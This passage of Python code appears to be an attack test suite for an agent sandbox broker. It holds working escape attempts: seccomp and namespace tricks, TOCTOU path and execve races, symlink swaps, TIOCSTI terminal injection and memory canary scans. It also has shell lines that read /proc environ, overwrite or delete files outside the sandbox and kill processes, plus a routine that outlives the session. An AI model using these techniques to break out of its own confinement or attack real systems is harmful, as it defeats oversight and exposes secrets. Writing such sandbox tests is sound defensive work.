            lambda: fcntl.fcntl(ours, fcntl.F_SETFL, fcntl.fcntl(ours, fcntl.F_GETFL) | os.O_ASYNC),
            lambda: fcntl.ioctl(ours, 0x5452, struct.pack("=i", 1)),  # FIOASYNC
        ):
            try:
                act()
            except OSError:
                continue
        theirs.send(b"now")
        theirs.close()

    try:
        for_each_target(place, own)
    except OSError:
        time.sleep(0.05)
    return {"got": False}


@attack
def signal_by_a_childs_end(place: Place) -> dict[str, Any]:
    """A child of our parent's, whose end sends a signal of our choice."""
    child = call("clone", 0x8000 | POKE, 0, 0, 0, 0)  # CLONE_PARENT
    if child == 0:
        os._exit(0)
    return {"got": child}


@attack
def signal_by_an_orphans_end(place: Place) -> dict[str, Any]:
    """A child with an exit signal of its own, left to whoever adopts it. The control adopts it itself."""
    poked = []
    if place["control"]:
        libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
        signal.signal(signal.SIGCHLD, lambda *_: poked.append(1))
    middle = os.fork()
    if middle == 0:
        if call("clone", int(POKE), 0, 0, 0, 0) == 0:
            time.sleep(0.1)
        os._exit(0)
    os.waitpid(middle, 0)
    time.sleep(0.2)
    return {"got": bool(poked) or place["control"]}


# -- the kernel: namespaces, filters, modules


def syscalls(name: str, act: Callable[[], Any]) -> None:
    tool(name)(lambda place: {"got": act()})


def _clone(flags: int) -> int:
    child = call("clone", flags | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return child


def _clone3() -> int:
    arguments = struct.pack("=11Q", 0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    child = call("clone3", ctypes.create_string_buffer(arguments, len(arguments)), len(arguments))
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return child


ALLOW = ctypes.create_string_buffer(struct.pack("=HBBI", 6, 0, 0, 0x7FFF_0000), 8)


def _allow_all() -> Any:
    return ctypes.create_string_buffer(struct.pack("@HP", 1, ctypes.addressof(ALLOW)))


def _second_filter(flags: int) -> int:
    libc.prctl(38, 1, 0, 0, 0)
    return call("seccomp", 1, flags, _allow_all()) + 1


def _second_filter_by_prctl() -> bool:
    libc.prctl(38, 1, 0, 0, 0)
    return checked(libc.prctl(22, 2, _allow_all(), 0, 0), "prctl") == 0


def _strict() -> bool:
    """A filter on top could make the broker's own ends fail: only looked at, with a mode that does not exist."""
    return libc.prctl(22, 99, 0, 0, 0) == 0 or ctypes.get_errno() == errno.EINVAL


def _perf() -> int:
    attributes = struct.pack("=IIQQQQQ", 1, 112, 0, 0, 0, 0, 1 << 5 | 1 << 6) + bytes(64)
    return call("perf_event_open", ctypes.create_string_buffer(attributes, 112), 0, -1, -1, 0)


def _userfaultfd() -> int:
    return call("userfaultfd", 1)  # UFFD_USER_MODE_ONLY


def _message_queue() -> int:
    """Removed at once: what is left of it would outlive the control."""
    name = b"agentd-%d" % os.getpid()
    queue = call("mq_open", name, os.O_CREAT | os.O_RDWR, 0o600, None)
    call("mq_unlink", name)
    return queue


def _messages() -> bool:
    number = call("msgget", 0, 0o600)
    return libc.msgctl(number, 0, None) == 0


def _semaphores() -> bool:
    number = call("semget", 0, 1, 0o600)
    return libc.semctl(number, 0, 0) == 0


def _shared_memory() -> int:
    number = call("shmget", 0, 4096, 0o1600)
    address = call("shmat", number, 0, 0)
    libc.shmctl(number, 0, None)
    return address


def _terminal() -> bool:
    """A character typed into a terminal."""
    os.setsid() if os.getsid(0) != os.getpid() else None
    _, terminal = os.openpty()
    fcntl.ioctl(terminal, 0x540E, 0)  # TIOCSCTTY
    fcntl.ioctl(terminal, 0x5412, b"x")  # TIOCSTI
    return True


def _terminal_of_standard_input() -> bool:
    """The request comes to the driver: it says that this is no terminal, not that it may not be asked."""
    try:
        fcntl.ioctl(0, 0x5412, b"x")
    except OSError as e:
        return e.errno == errno.ENOTTY
    return True


def _bpf() -> int:
    return call("bpf", 0, ctypes.create_string_buffer(struct.pack("=4I", 2, 4, 4, 1), 72), 72)


for _name, _deed in {
    "new_user_namespace_by_clone": lambda: _clone(0x1000_0000),
    "new_mount_namespace_by_clone": lambda: _clone(0x0002_0000),
    "new_pid_namespace_by_clone": lambda: _clone(0x2000_0000),
    "new_user_namespace": lambda: call("unshare", 0x1000_0000) == 0,
    "new_network_namespace": lambda: call("unshare", 0x5000_0000) == 0,
    "unshare_files": lambda: call("unshare", 0x400) == 0,
    "clone3": _clone3,
    "clone_untraced": lambda: _clone(0x0080_0000),
    "clone_into_a_shared_table": lambda: _clone(0x400),
    "second_filter": lambda: _second_filter(0),
    "second_filter_with_a_listener": lambda: _second_filter(8),
    "second_filter_by_prctl": _second_filter_by_prctl,
    "ask_about_filters": _strict,
    "ring_of_aio": lambda: call("io_setup", 1, ctypes.create_string_buffer(8)) == 0,
    "key": lambda: call("add_key", b"user", b"agentd", b"x", 1, -2),
    "key_of_the_session": lambda: call("keyctl", 0, -3, 1),
    "userfaultfd": _userfaultfd,
    "bpf": _bpf,
    "perf_event": _perf,
    "personality": lambda: call("personality", 0x004_0000) >= 0,
    "local_descriptors": lambda: call("modify_ldt", 0, ctypes.create_string_buffer(64), 64) >= 0,
    "shared_memory_of_system_v": _shared_memory,
    "messages_of_system_v": _messages,
    "semaphores_of_system_v": _semaphores,
    "posix_message_queue": _message_queue,
    "memory_file": lambda: call("memfd_create", b"x", 0),
    "secret_memory_file": lambda: call("memfd_secret", 0),
    "type_into_a_terminal": _terminal,
    "type_into_standard_input": _terminal_of_standard_input,
    "kernel_log": lambda: call("syslog", 10, None, 0),
    "file_system_context": lambda: call("fsopen", b"tmpfs", 0),
}.items():
    syscalls(_name, _deed)


@attack
def join_a_namespace(place: Place) -> dict[str, Any]:
    """The control holds a descriptor of its own mount namespace."""
    held = os.open("/proc/self/ns/mnt", os.O_RDONLY) if place["control"] else 3
    return {"got": call("setns", held, 0) == 0}


@attack
def mount_something(place: Place) -> dict[str, Any]:
    return {"got": call("mount", b"none", (place["inside"] + "/folder").encode(), b"tmpfs", 0, None) == 0}


@attack
def bind_the_outside(place: Place) -> dict[str, Any]:
    target = place["inside"] + "/folder"
    call("mount", place["outside"].encode(), target.encode(), None, 4096, None)
    return {"got": Path(target + "/file").read_text()}


@attack
def change_the_root(place: Place) -> dict[str, Any]:
    call("chroot", place["outside"].encode())
    os.chdir("/")
    return {"got": Path("/file").read_text()}


@attack
def pivot_the_root(place: Place) -> dict[str, Any]:
    """The control makes the new root a mount first."""
    if place["control"]:
        call("mount", place["outside"].encode(), place["outside"].encode(), None, 4096, None)
    os.chdir(place["outside"] if place["control"] else place["inside"])
    call("pivot_root", b".", b".")
    os.chdir("/")
    return {"got": Path("/file").read_text()}


@attack
def listener_among_descriptors(place: Place) -> dict[str, Any]:
    """Whoever holds it may approve its own calls. A listener knows the request; the id it does not know."""
    if place["control"]:
        _second_filter(8)
    for descriptor in range(3, 1024):
        try:
            fcntl.ioctl(descriptor, 0x4008_2102, struct.pack("=Q", 1))
        except OSError as e:
            if e.errno == errno.ENOENT:
                return {"got": descriptor}
    return {"got": 0}


@attack
def canary_in_memory(place: Place) -> dict[str, Any]:
    """Everything mapped around what the process knows addresses of: heap, libraries, stack."""
    reader, writer = os.pipe()
    libc.sbrk.restype = ctypes.c_void_p
    environment = ctypes.c_void_p.in_dll(libc, "environ").value or 0
    bases = {
        id(place),
        id(os),
        libc.sbrk(0),
        environment,
        ctypes.addressof(ctypes.c_int()),
        ctypes.cast(libc.read, ctypes.c_void_p).value,
    }
    pages = {(base or 0) // 4096 + step for base in bases for step in range(-6000, 6000)}
    found: set[str] = set()
    last = b""
    seen = 0
    for page in sorted(page for page in pages if page > 16):
        written = libc.write(writer, ctypes.c_void_p(page * 4096), 4096)
        if written <= 0:
            last = b""
            continue
        data = os.read(reader, written)  # all of it, or a pipe that is never emptied would hold the next one up
        seen += 1
        found |= {match.decode() for match in re.findall(rb"canar[y]-[0-9a-f]{16}", last[-32:] + data)}
        last = data
    return {"got": sorted(found), "pages": seen}


# -- the network


def network(name: str, act: Callable[[Place], Any]) -> None:
    tool(name)(lambda place: {"got": act(place)})


def _pass_rights(place: Place) -> int:
    ours, theirs = socket.socketpair()
    socket.send_fds(ours, [b"x"], [0])
    return len(socket.recv_fds(theirs, 1, 1)[1])


def _connected(family: int, address: Any) -> bool:
    with socket.socket(family) as connection:
        connection.connect(address)
        connection.sendall(b"leak")
    return True


def _datagram(place: Place) -> int:
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("127.0.0.1", place["udp"]))


def _datagram_of_a_pair(place: Place) -> int:
    """A socket it may have, pointed at somebody else."""
    return socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"leak", place["datagrams"])


def _message_of_a_pair(place: Place) -> int:
    return socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendmsg([b"leak"], [], 0, place["datagrams"])


def _reconnected_pair(place: Place) -> int:
    ours = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]
    ours.connect(place["datagrams"])
    return ours.send(b"leak")


def _fastopen(place: Place) -> int:
    return socket.socket().sendto(b"leak", 0x2000_0000, ("127.0.0.1", place["tcp"]))


def _fastopen_by_option(place: Place) -> int:
    connection = socket.socket()
    connection.setsockopt(6, 30, 1)  # TCP_FASTOPEN_CONNECT
    connection.connect(("127.0.0.1", place["tcp"]))
    return connection.send(b"leak")


def _sendmmsg(place: Place) -> int:
    address = ctypes.create_string_buffer(
        struct.pack("=H", 2) + struct.pack("!H", place["udp"]) + socket.inet_aton("127.0.0.1") + bytes(8)
    )
    text = ctypes.create_string_buffer(b"leak")
    vector = ctypes.create_string_buffer(struct.pack("@PN", ctypes.addressof(text), 4))
    header = struct.pack("@PIPNPNiI", ctypes.addressof(address), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ours:
        return checked(libc.sendmmsg(ours.fileno(), ctypes.create_string_buffer(header, 72), 1, 0), "sendmmsg")


def _listening(place: Place) -> int:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    return int(server.getsockname()[1])


def _listening_unbound(place: Place) -> int:
    """listen(2) without bind(2) takes any port, of all addresses."""
    server = socket.socket()
    server.listen()
    return int(server.getsockname()[1])


def _netlink(place: Place) -> int:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
        link.send(struct.pack("=IHHIIB3x", 20, 18, 0x301, 1, 0, 0))
        return len(link.recv(4096))


for _name, _deed in {
    "tcp_out": lambda place: _connected(socket.AF_INET, ("127.0.0.1", place["tcp"])),
    "tcp_out_by_a_mapped_address": lambda place: _connected(socket.AF_INET6, ("::ffff:127.0.0.1", place["tcp"])),
    "tcp_out_to_any_address": lambda place: _connected(socket.AF_INET, ("0.0.0.0", place["tcp"])),
    "tcp_out_fast": _fastopen,
    "tcp_out_fast_by_option": _fastopen_by_option,
    "mptcp_out": lambda place: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).fileno(),
    "udp_out": _datagram,
    "udp_out_in_bulk": _sendmmsg,
    "unix_socket_by_path": lambda place: _connected(socket.AF_UNIX, place["unix"]),
    "unix_socket_abstract": lambda place: _connected(socket.AF_UNIX, "\0" + place["abstract"]),
    "unix_datagram_by_a_pair": _datagram_of_a_pair,
    "unix_message_by_a_pair": _message_of_a_pair,
    "unix_pair_reconnected": _reconnected_pair,
    "netlink": _netlink,
    "raw_socket": lambda place: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).fileno(),
    "packet_socket": lambda place: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).fileno(),
    "crypto_socket": lambda place: socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET).fileno(),
    "vsock": lambda place: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).fileno(),
    "pass_descriptors": _pass_rights,
    "bind_and_listen": _listening,
    "listen_unbound": _listening_unbound,
}.items():
    network(_name, _deed)


@attack
def connect_to_a_flipped_address(place: Place) -> dict[str, Any]:
    """A second thread changes the port between a granted and a forbidden one."""
    base = struct.pack("=H", 2) + b"\0\0" + socket.inet_aton("127.0.0.1") + bytes(8)
    address = ctypes.create_string_buffer(base, 16)
    ports = struct.pack("!H", place["granted"]), struct.pack("!H", place["tcp"])
    with flipping(lambda n: ctypes.memmove(ctypes.addressof(address) + 2, ports[n], 2), place["seconds"]) as going:
        while going():
            connection = socket.socket()
            if libc.connect(connection.fileno(), address, 16) == 0 and connection.getpeername()[1] == place["tcp"]:
                return {"got": True}
            connection.close()
    return {"got": False}


# -- a path that changes while it is checked


class flipping:  # noqa: N801 - reads like a function
    """A thread that writes one thing and the other in turn, until the block ends."""

    def __init__(self, write: Callable[[int], Any], seconds: float) -> None:
        self.write, self.end = write, time.monotonic() + seconds
        self.thread = threading.Thread(target=self.run)

    def run(self) -> None:
        while time.monotonic() < self.end:
            for _ in range(50):
                self.write(0)
                self.write(1)

    def __enter__(self) -> Callable[[], bool]:
        self.thread.start()
        return lambda: time.monotonic() < self.end

    def __exit__(self, *_: object) -> None:
        self.end = 0
        self.thread.join()


def flips(name: str, good: str, bad: str, attempt: Callable[[Any, Place], Any]) -> None:
    def flip(place: Place) -> dict[str, Any]:
        paths = good.format(**place).encode() + b"\0", bad.format(**place).encode() + b"\0"
        buffer = ctypes.create_string_buffer(max(map(len, paths)))
        address = ctypes.addressof(buffer)
        with flipping(lambda n: ctypes.memmove(address, paths[n], len(paths[n])), place["seconds"]) as going:
            while going():
                if got := attempt(buffer, place):
                    return {"got": got}
        return {"got": False}

    tool(name)(flip)


def _flip_open(buffer: Any, place: Place) -> str:
    descriptor = libc.open(buffer, os.O_RDONLY)
    if descriptor < 0:
        return ""
    text = read_all(descriptor)
    os.close(descriptor)
    return "" if text == "inside\n" else text


def _flip_stat(buffer: Any, place: Place) -> bool:
    status = ctypes.create_string_buffer(144)
    if libc.syscall(ctypes.c_long(CALLS["newfstatat"][ARCHITECTURE]), ctypes.c_long(-100), buffer, status, ctypes.c_long(0)):
        return False
    return struct.unpack_from("=q", status.raw, 48)[0] == place["size"]


def _flip_chdir(buffer: Any, place: Place) -> bool:
    return libc.chdir(buffer) == 0 and os.getcwd() == place["outside"]


def _flip_readlink(buffer: Any, place: Place) -> str:
    text = ctypes.create_string_buffer(4096)
    size = libc.readlink(buffer, text, 4096)
    return text.raw[:size].decode() if size > 0 else ""


flips("flip_open", "{inside}/file", "{outside}/file", _flip_open)
flips("flip_stat", "{inside}/file", "{outside}/file", _flip_stat)
flips("flip_readlink", "{inside}/file", "{outside}/alias", _flip_readlink)
flips("flip_chdir", "{inside}", "{outside}", _flip_chdir)
flips("flip_unlink", "{inside}/none", "{outside}/file", lambda buffer, place: libc.unlink(buffer) == 0)
flips("flip_truncate", "{inside}/none", "{outside}/file", lambda buffer, place: libc.truncate(buffer, ctypes.c_long(0)) == 0)
flips("flip_mkdir", "{inside}/file", "{outside}/newdir", lambda buffer, place: libc.mkdir(buffer, 0o755) == 0)
flips("flip_chmod", "{inside}/none", "{outside}/file", lambda buffer, place: libc.chmod(buffer, 0o777) == 0)
flips(
    "flip_rename_from",
    "{inside}/none",
    "{outside}/file",
    lambda buffer, place: libc.rename(buffer, (place["inside"] + "/taken").encode()) == 0,
)
flips(
    "flip_rename_to",
    "{inside}/none/none",
    "{outside}/new-name",
    lambda buffer, place: libc.rename((place["inside"] + "/file").encode(), buffer) == 0,
)
flips(
    "flip_link",
    "{inside}/none",
    "{outside}/file",
    lambda buffer, place: libc.link(buffer, (place["inside"] + "/stolen").encode()) == 0,
)


@attack
def flip_in_shared_memory(place: Place) -> dict[str, Any]:
    """A forked child changes the path in memory that both have."""
    paths = [f"{place[name]}/file\0".encode() for name in ("inside", "outside")]
    memory = mmap.mmap(-1, 4096)
    buffer = (ctypes.c_char * 4096).from_buffer(memory)
    memory[: len(paths[0])] = paths[0]
    end = time.monotonic() + place["seconds"]
    child = os.fork()
    if child == 0:
        while time.monotonic() < end:
            for path in paths * 50:
                memory[: len(path)] = path
        os._exit(0)
    got = ""
    while time.monotonic() < end and not got:
        got = _flip_open(buffer, place)
    os.waitpid(child, 0)
    return {"got": got}


def start_until_ran(place: Place, start: Callable[[], Any]) -> dict[str, Any]:
    """Fork children that `start` one of two programs until the forbidden one has said that it ran."""
    reader, writer = os.pipe()
    end = time.monotonic() + place["seconds"]
    while time.monotonic() < end:
        child = os.fork()
        if child == 0:
            try:
                os.dup2(writer, 1)
                start()
            finally:
                os._exit(1)
        os.waitpid(child, 0)
        if select.select([reader], [], [], 0)[0]:
            return {"got": os.read(reader, 100).decode()}
    return {"got": ""}


def execute(path: Any) -> None:
    arguments = (ctypes.c_char_p * 3)(b"program", b"forbidden", None)
    libc.execve(path, arguments, (ctypes.c_char_p * 1)(None))


def flip_program(place: Place, bad: str, *, noise: bool) -> dict[str, Any]:
    paths = place["good_program"].encode() + b"\0", bad.encode() + b"\0"

    def start() -> None:
        buffer = ctypes.create_string_buffer(max(map(len, paths)))
        address = ctypes.addressof(buffer)

        def flip() -> None:
            while True:
                ctypes.memmove(address, paths[0], len(paths[0]))
                ctypes.memmove(address, paths[1], len(paths[1]))

        def call_something() -> None:
            while True:
                libc.access(b"/", 0)

        threading.Thread(target=flip, daemon=True).start()
        for _ in range(3 if noise else 0):
            threading.Thread(target=call_something, daemon=True).start()
        for _ in range(20):
            execute(buffer)

    return start_until_ran(place, start)


@attack
def flip_execve(place: Place) -> dict[str, Any]:
    """To a program that lies outside of all scopes."""
    return flip_program(place, place["outside"] + "/program", noise=False)


@attack
def flip_execve_amid_other_calls(place: Place) -> dict[str, Any]:
    """Other threads make calls, so that the one at which the program is looked at comes before the program."""
    return flip_program(place, place["outside"] + "/program", noise=True)


@attack
def flip_execve_to_a_readable_program(place: Place) -> dict[str, Any]:
    """To a program that may be read, not executed."""
    return flip_program(place, place["bad_program"], noise=False)


@attack
def flip_execve_to_a_readable_program_amid_other_calls(place: Place) -> dict[str, Any]:
    return flip_program(place, place["bad_program"], noise=True)


@attack
def flip_execve_in_a_second_thread(place: Place) -> dict[str, Any]:
    """Whichever thread calls it: the new program goes on under the number of the first."""
    paths = place["good_program"].encode() + b"\0", (place["outside"] + "/program").encode() + b"\0"

    def start() -> None:
        buffer = ctypes.create_string_buffer(max(map(len, paths)))
        address = ctypes.addressof(buffer)

        def flip() -> None:
            while True:
                ctypes.memmove(address, paths[0], len(paths[0]))
                ctypes.memmove(address, paths[1], len(paths[1]))

        def try_on() -> None:
            for _ in range(20):
                execute(buffer)

        threading.Thread(target=flip, daemon=True).start()
        second = threading.Thread(target=try_on)
        second.start()
        second.join()

    return start_until_ran(place, start)


@attack
def flip_execve_to_a_program_that_makes_no_call(place: Place) -> dict[str, Any]:
    """None that anybody would be asked about: it writes and ends."""
    if not os.path.exists(place["outside"] + "/static") and place["control"]:
        raise ToolFailure("no such program for this processor")
    return flip_program(place, place["outside"] + "/static", noise=False)


@attack
def flip_execve_to_the_own_program(place: Place) -> dict[str, Any]:
    """What runs afterwards has the same name as what ran before: Python, with a script of its own choice."""
    script = place["inside"] + "/script.py"
    Path(script).write_text("print('ran')")

    def start() -> None:
        paths = place["good_program"].encode() + b"\0", place["python"].encode() + b"\0"
        buffer = ctypes.create_string_buffer(max(map(len, paths)))
        address = ctypes.addressof(buffer)
        arguments = (ctypes.c_char_p * 5)(b"python", b"-I", b"-S", script.encode(), None)

        def flip() -> None:
            while True:
                ctypes.memmove(address, paths[0], len(paths[0]))
                ctypes.memmove(address, paths[1], len(paths[1]))

        threading.Thread(target=flip, daemon=True).start()
        for _ in range(20):
            libc.execve(buffer, arguments, (ctypes.c_char_p * 1)(None))

    return start_until_ran(place, start)


@attack
def flip_execve_in_shared_memory(place: Place) -> dict[str, Any]:
    paths = place["good_program"].encode() + b"\0", (place["outside"] + "/program").encode() + b"\0"
    memory = mmap.mmap(-1, 4096)
    buffer = (ctypes.c_char * 4096).from_buffer(memory)
    end = time.monotonic() + place["seconds"]
    child = os.fork()
    if child == 0:
        while time.monotonic() < end:
            for path in paths * 50:
                memory[: len(path)] = path
        os._exit(0)
    return start_until_ran(place, lambda: execute(buffer))


@attack
def flip_execve_by_a_link(place: Place) -> dict[str, Any]:
    """The path stays, what it leads to changes: another process swaps two links, both to what may be read."""
    return swap_links(place, place["inside"] + "/program", place["bad_program"])


@attack
def flip_execve_by_a_link_and_dots(place: Place) -> dict[str, Any]:
    """The same path spelled as one that begins elsewhere, to a program of its own that makes no call."""
    if not place["machine_code"]:
        raise ToolFailure("no machine code for this processor")
    own = place["inside"] + "/own"
    Path(own).write_bytes(bytes.fromhex(place["machine_code"]))
    os.chmod(own, 0o755)
    return swap_links(place, f"/usr/..{place['inside']}/program", own)


def swap_links(place: Place, spelled: str, bad: str) -> dict[str, Any]:
    inside = place["inside"]
    os.symlink(place["good_program"], inside + "/program")
    os.symlink(bad, inside + "/other")
    end = time.monotonic() + place["seconds"]
    child = os.fork()
    if child == 0:
        while time.monotonic() < end:
            os.rename(inside + "/program", inside + "/aside")
            os.rename(inside + "/other", inside + "/program")
            os.rename(inside + "/program", inside + "/other")
            os.rename(inside + "/aside", inside + "/program")
        os._exit(0)
    path = spelled.encode()

    def start() -> None:
        while time.monotonic() < end:
            execute(path)

    return start_until_ran(place, start)


# -- a folder that somebody outside exchanges for a link, again and again


def swaps(name: str, act: Callable[[str, int, Place], Any]) -> None:
    def swap(place: Place) -> dict[str, Any]:
        end = time.monotonic() + place["seconds"]
        number = 0
        while time.monotonic() < end:
            number += 1
            try:
                if got := act(place["inside"] + "/swap", number, place):
                    return {"got": got}
            except OSError:
                continue
        return {"got": ""}

    tool(name)(swap)


def _swap_read(folder: str, number: int, place: Place) -> str:
    text = Path(folder + "/file").read_text()
    return "" if text == "inside\n" else text


def _swap_stat(folder: str, number: int, place: Place) -> bool:
    return os.stat(folder + "/file").st_size == place["size"]


def _swap_list(folder: str, number: int, place: Place) -> list[str]:
    names = os.listdir(folder)
    return names if "alias" in names else []


def _swap_write(folder: str, number: int, place: Place) -> None:
    descriptor = os.open(folder + "/only-outside", os.O_WRONLY)
    os.write(descriptor, b"owned")
    os.close(descriptor)


def _swap_chdir(folder: str, number: int, place: Place) -> str:
    """What counts is what can be read from the folder that it is in afterwards."""
    os.chdir(folder)
    text = Path("file").read_text()
    return "" if text == "inside\n" else text


def _swap_rename_to(folder: str, number: int, place: Place) -> None:
    made = f"{place['inside']}/new{number % 50}"
    if not os.path.exists(made):
        os.mkdir(made)
    os.rename(made, f"{folder}/moved{number % 50}")


for _name, _swap in {
    "swap_read": _swap_read,
    "swap_stat": _swap_stat,
    "swap_list": _swap_list,
    "swap_chdir": _swap_chdir,
    "swap_write": _swap_write,
    "swap_create": lambda folder, number, place: os.close(os.open(f"{folder}/new{number % 50}", os.O_CREAT | os.O_WRONLY)),
    "swap_truncate": lambda folder, number, place: os.truncate(folder + "/only-outside", 1),
    "swap_unlink": lambda folder, number, place: os.unlink(folder + "/only-outside"),
    "swap_mkdir": lambda folder, number, place: os.mkdir(f"{folder}/new{number % 50}"),
    "swap_chmod": lambda folder, number, place: os.chmod(folder + "/only-outside", 0o777),
    "swap_rename_from": lambda folder, number, place: os.rename(folder + "/only-outside", place["inside"] + "/taken"),
    "swap_rename_to": _swap_rename_to,
}.items():
    swaps(_name, _swap)


# -- programs


@attack
def exec_a_reader(place: Place) -> dict[str, Any]:
    return {"got": output_of([place["tools"]["cat"], place["outside"] + "/file"])}


@attack
def exec_a_reader_by_a_link(place: Place) -> dict[str, Any]:
    return {"got": output_of([place["tools"]["cat"], place["inside"] + "/link"])}


@attack
def exec_a_reader_in_a_folder(place: Place) -> dict[str, Any]:
    return {"got": output_of([place["tools"]["cat"], "../outside/file"], folder=place["inside"])}


@attack
def exec_a_reader_in_the_outside(place: Place) -> dict[str, Any]:
    return {"got": output_of([place["tools"]["cat"], "file"], folder=place["outside"])}


@attack
def exec_a_program_outside(place: Place) -> dict[str, Any]:
    return {"got": output_of([place["outside"] + "/program", "ran"])}


@attack
def exec_a_program_by_a_link(place: Place) -> dict[str, Any]:
    return {"got": output_of([place["inside"] + "/program-link", "ran"])}


@attack
def exec_a_program_by_a_relative_path(place: Place) -> dict[str, Any]:
    return {"got": output_of(["../outside/program", "ran"], folder=place["inside"])}


def shell(name: str, script: str) -> None:
    def run(place: Place) -> dict[str, Any]:
        return {"got": output_of([place["tools"]["sh"], "-c", script.format(**place)])}

    tool(name)(run)


def shell_changes(name: str, script: str) -> None:
    changes(name, lambda place: output_of([place["tools"]["sh"], "-c", script.format(**place)]))


shell("shell_reads", "while read -r line; do echo $line; done < {outside}/file 2>/dev/null")
shell(
    "shell_reads_by_proc",
    "cat /proc/{targets[0][pid]}/root{outside}/file 2>/dev/null || cat /proc/$PPID/root{outside}/file 2>/dev/null",
)
shell("shell_lists", "ls {outside} 2>/dev/null")
shell("shell_reads_environ", "cat /proc/{targets[0][pid]}/environ 2>/dev/null || cat /proc/$PPID/environ 2>/dev/null")
shell_changes("shell_writes", "echo owned > {outside}/file")
shell_changes("shell_appends_by_a_link", "echo owned >> {inside}/link")
shell_changes("shell_writes_in_the_background", "(sleep 0.05; echo owned > {outside}/file) & cd {inside}; wait")
shell_changes("shell_moves", "mv {outside}/file {inside}/taken")
shell_changes("shell_copies_over", "cp {inside}/file {inside}/hard")
shell_changes("shell_links", "ln {outside}/file {inside}/stolen")
shell_changes("shell_removes", "rm -rf {outside}/folder {inside}/folder-link/folder")
shell_changes(
    "shell_follows_its_link", "ln -s ../outside {inside}/made; echo owned > {inside}/made/new; mkdir {inside}/folder-link/x"
)
shell_changes("shell_kills", "kill -URG {targets[0][pid]}; kill -URG -{targets[0][group]}")


@attack
def exec_python(place: Place) -> dict[str, Any]:
    """Another Python, not the worker's: the filter is inherited, whatever is started."""
    if not place["tools"]["python"]:
        raise ToolFailure("no python in /usr/bin on this machine")
    script = f"import os; print(open({place['outside'] + '/file'!r}).read())"
    return {"got": output_of([place["tools"]["python"], "-I", "-S", "-c", script])}


@attack
def exec_from_a_memory_file(place: Place) -> dict[str, Any]:
    program = call("memfd_create", b"x", 0)
    os.write(program, Path(place["bad_program"]).read_bytes())
    return {"got": output_of(["program", "ran"], f"/proc/self/fd/{program}")}


@attack
def exec_by_descriptor(place: Place) -> dict[str, Any]:
    """execveat(2) with an empty path, of a memory file or an open program."""
    reader, writer = os.pipe()
    try:
        program = call("memfd_create", b"x", 0)
        os.write(program, Path(place["bad_program"]).read_bytes())
    except OSError:
        program = os.open(place["bad_program"], os.O_RDONLY)
    child = os.fork()
    if child == 0:
        os.dup2(writer, 1)
        arguments = (ctypes.c_char_p * 3)(b"echo", b"ran", None)
        libc.syscall(ctypes.c_long(CALLS["execveat"][ARCHITECTURE]), program, b"", arguments, None, 0x1000)
        os._exit(1)
    os.waitpid(child, 0)
    os.close(writer)
    return {"got": read_all(reader)}


# -- programs that are not among those that may be started: only `good_program` is


@attack
def evade_by_name(place: Place) -> dict[str, Any]:
    return {"got": output_of([place["bad_program"], "ran"])}


@attack
def evade_by_the_linker(place: Place) -> dict[str, Any]:
    return {"got": output_of([place["linker"], place["bad_program"], "ran"])}


@attack
def evade_by_a_copy(place: Place) -> dict[str, Any]:
    copy = place["inside"] + "/copy"
    Path(copy).write_bytes(Path(place["bad_program"]).read_bytes())
    os.chmod(copy, 0o755)
    return {"got": output_of([copy, "ran"])}


@attack
def evade_by_a_renamed_copy(place: Place) -> dict[str, Any]:
    copy = place["inside"] + "/folder/" + os.path.basename(place["good_program"])
    Path(copy).write_bytes(Path(place["bad_program"]).read_bytes())
    os.chmod(copy, 0o755)
    return {"got": output_of(["./" + os.path.basename(copy), "ran"], folder=os.path.dirname(copy))}


@attack
def evade_by_a_symlink(place: Place) -> dict[str, Any]:
    link = place["inside"] + "/program"
    os.symlink(place["bad_program"], link)
    return {"got": output_of([link, "ran"])}


@attack
def evade_by_dots(place: Place) -> dict[str, Any]:
    good, bad = place["good_program"], place["bad_program"]
    return {
        "got": output_of([os.path.dirname(good) + "/../" + os.path.relpath(bad, os.path.dirname(os.path.dirname(good))), "ran"])
    }


@attack
def evade_by_a_script(place: Place) -> dict[str, Any]:
    script = place["inside"] + "/script"
    Path(script).write_text(f"#!{place['bad_program']}\n")
    os.chmod(script, 0o755)
    return {"got": output_of([script, "ran"])}


@attack
def evade_by_the_own_program(place: Place) -> dict[str, Any]:
    return {"got": output_of(["python", "-I", "-S", "-c", "print('ran')"], "/proc/self/exe")}


@attack
def evade_by_the_own_program_by_name(place: Place) -> dict[str, Any]:
    return {"got": output_of([place["python"], "-I", "-S", "-c", "print('ran')"])}


@attack
def evade_by_a_preloaded_library(place: Place) -> dict[str, Any]:
    """The good program with variables that make the linker say what it loads: its own output is no escape."""
    text = output_of(
        [place["good_program"], place["outside"] + "/file"], environment={"LD_PRELOAD": place["outside"] + "/file"}
    )
    return {"got": re.findall("canar[y]-[0-9a-f]{16}", text)}


# -- staying longer than the answer


def write_on(held: int) -> None:
    """Until the file has no name any more: that is how the test ends the control."""
    while os.fstat(held).st_nlink:
        os.write(held, b"x")
        time.sleep(0.002)


@attack
def survive(place: Place) -> dict[str, Any]:
    """A grandchild in a group (if it can, a session) of its own that holds a file open and writes on."""
    held = os.open(place["inside"] + "/log", os.O_CREAT | os.O_WRONLY | os.O_APPEND, 0o644)
    if os.fork() == 0:
        for leave in (os.setsid, lambda: os.setpgid(0, 0)):
            try:
                leave()
            except OSError:
                continue
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        libc.prctl(1, 0, 0, 0, 0)
